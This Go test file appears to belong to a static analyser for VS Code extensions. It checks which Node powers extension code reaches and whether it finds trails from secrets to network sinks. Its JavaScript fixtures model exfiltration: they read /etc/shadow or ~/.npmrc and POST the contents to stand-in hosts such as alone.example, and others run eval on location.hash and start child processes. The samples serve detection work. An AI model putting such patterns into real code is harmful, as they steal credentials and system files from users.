package facts_test

import (
	"cmp"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/ringfence-dev/ringfence/internal/facts"
)

// shallowCases are extensions and, for one file, whether it is shallow and
// what is found in it. Shallow code has no way to Node, so what it does with
// globals is all it can do.
var shallowCases = []struct {
	name    string
	in      files
	shallow bool
	want    string
}{
	{
		"webview script",
		files{"media/view.js": "fetch('/x'); eval(location.hash); new WebSocket('wss://x.example')"},
		true,
		"globals.WebSocket globals.eval globals.fetch",
	},
	{"aliased global", files{"media/view.js": "const f = window.fetch; f('/x')"}, true, "globals.fetch"},
	{"own fetch", files{"media/view.js": "function fetch() {} fetch('/x')"}, true, ""},
	{"no power at all", files{"media/view.js": "document.body.append('fs')"}, true, ""},
	{"a method that takes a module's name", files{"media/view.js": "list.append('path'); x.get('fs')"}, true, ""},
	{"requires fs", files{"media/view.js": "require('fs').readFileSync('a')"}, false, "fs.readFileSync"},
	{"requires node:fs", files{"media/view.js": "require('node:fs').readFileSync('a')"}, false, "fs.readFileSync"},
	{"imports fs", files{"media/view.mjs": "import fs from 'fs'; fs.readFileSync('a')"}, false, "fs.readFileSync"},
	{"imports fs later", files{"media/view.js": "import('fs').then((fs) => fs.readFileSync('a'))"}, false, "fs.readFileSync"},
	{"requires under another name", files{"media/view.js": "const r = require; r('fs').readFileSync('a')"}, false, "fs.readFileSync"},
	{"requires what nobody knows", files{"media/view.js": "require(name)"}, false, "module.require"},
	{
		"builtin module",
		files{"media/view.js": "process.getBuiltinModule('fs').readFileSync('a')"},
		false,
		"fs.readFileSync process.getBuiltinModule",
	},
	{
		"connected to a file that requires fs",
		files{"media/view.js": "require('./low').read('a')", "media/low.js": "exports.read = require('fs').readFileSync"},
		false,
		"fs.readFileSync",
	},
	{
		"connected to a file that does not",
		files{"media/view.js": "require('./low').go('a')", "media/low.js": "exports.go = 1; fetch('/y')"},
		true,
		"",
	},
	{
		"required by a file that requires fs",
		files{"media/view.js": "exports.f = (fs) => fs.readFileSync('a')", "media/up.js": "require('./view').f(require('fs'))"},
		false,
		"fs.readFileSync",
	},
	{
		"three files in a row",
		files{"media/view.js": "require('./b')", "media/b.js": "require('./c')", "media/c.js": "require('vscode').env.openExternal('x')"},
		false,
		"",
	},
	{"required by main", files{"media/view.js": "fetch('/x')", "main.js": "require('./media/view')"}, false, "globals.fetch"},
}

func TestShallowFiles(t *testing.T) {
	for _, c := range shallowCases {
		t.Run(c.name, func(t *testing.T) {
			if _, ok := c.in["main.js"]; !ok {
				c.in["main.js"] = "require('vscode').window.showInformationMessage('a')"
			}
			p := analyze(t, c.in)
			var found []string
			seen := false
			for _, s := range symbols(p) {
				for _, u := range calls(p, s) {
					if strings.HasPrefix(u.Where.File, "media/view.") && (len(found) == 0 || found[len(found)-1] != s) {
						found = append(found, s)
					}
				}
			}
			for _, m := range p.Modules {
				if strings.HasPrefix(m.Path, "media/view.") {
					seen = true
					if m.Shallow != c.shallow {
						t.Errorf("shallow is %v, want %v", m.Shallow, c.shallow)
					}
				}
				if m.Path == "main.js" && m.Shallow {
					t.Error("the entry is shallow")
				}
			}
			if got := strings.Join(found, " "); got != c.want || !seen {
				t.Errorf("found %q, want %q", got, c.want)
			}
		})
	}
}

// packages is an extension whose own code is a part of its node_modules' power.
func packages(main string) files {
	return files{
		"package.json":                    manifest(`"main": "./main.js"`),
		"main.js":                         main,
		"node_modules/near/index.js":      "exports.run = (x) => require('lower').run(x)",
		"node_modules/lower/index.js":     "exports.run = (x) => fetch('https://near.example/in', {method: 'POST', body: x})",
		"node_modules/far/index.js":       "const low = require('far-low'); exports.run = (x) => low.run(x)",
		"node_modules/far-low/index.js":   "exports.run = (x) => fetch('https://far.example/in', {method: 'POST', body: x})",
		"node_modules/alone/index.js":     "require('./low')(require('fs').readFileSync('/etc/shadow', 'utf8'))",
		"node_modules/alone/low.js":       "module.exports = (x) => fetch('https://alone.example/in', {method: 'POST', body: x})",
		"node_modules/@far/away/index.js": "require('child_process').execFile('uptime')",
	}
}

// TestWhatNothingLoadsIsSolvedApart: of much code, packages that nothing is seen to load are solved apart. What each of
// them does is found all the same, and what solving finds to be loaded meets who loads it.
func TestWhatNothingLoadsIsSolvedApart(t *testing.T) {
	const secret = "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')"
	cases := []struct {
		name, main string
		sent       string // the package whose code sends it
		reached    string
	}{
		{"named", "require('near').run(" + secret + ")", "lower", "main.js near lower"},
		{"named by a member", "const parts = {name: 'far'}; require(parts.name).run(" + secret + ")", "far-low", "main.js far far-low"},
		{"none", "require('vscode').window.showInformationMessage('a')", "", "main.js"},
	}
	for _, c := range cases {
		for _, most := range []int{1, facts.DefaultTogether} {
			t.Run(fmt.Sprintf("%s, %d together", c.name, most), func(t *testing.T) {
				p, err := facts.Analyze(t.Context(), load(t, packages(c.main)), facts.Options{Together: most})
				if err != nil {
					t.Fatal(err)
				}
				var sent []string
				for _, f := range p.Trails {
					sent = append(sent, f.Sink.Where.File+" from "+f.Source.What)
				}
				words := strings.Join(sent, "\n")
				for _, to := range []string{"lower", "far-low"} {
					if got := strings.Contains(words, "node_modules/"+to+"/"); got != (to == c.sent) {
						t.Errorf("sent by %s: %v; want it by %q:\n%s", to, got, c.sent, words)
					}
				}
				if !strings.Contains(words, "node_modules/alone/") {
					t.Errorf("what a package does by itself is not found:\n%s", words)
				}
				if len(calls(p, "child_process.execFile")) != 1 {
					t.Error("the program that a package starts is not found")
				}
				var reached []string
				for _, m := range p.Modules {
					if m.Reached {
						reached = append(reached, cmp.Or(m.Dependency, m.Path))
					}
				}
				if want := strings.Fields(c.reached); !sameSet(reached, want) {
					t.Errorf("reached %v, want %v", reached, want)
				}
			})
		}
	}
}

func sameSet(a, b []string) bool {
	slices.Sort(a)
	slices.Sort(b)
	return slices.Equal(a, b)
}
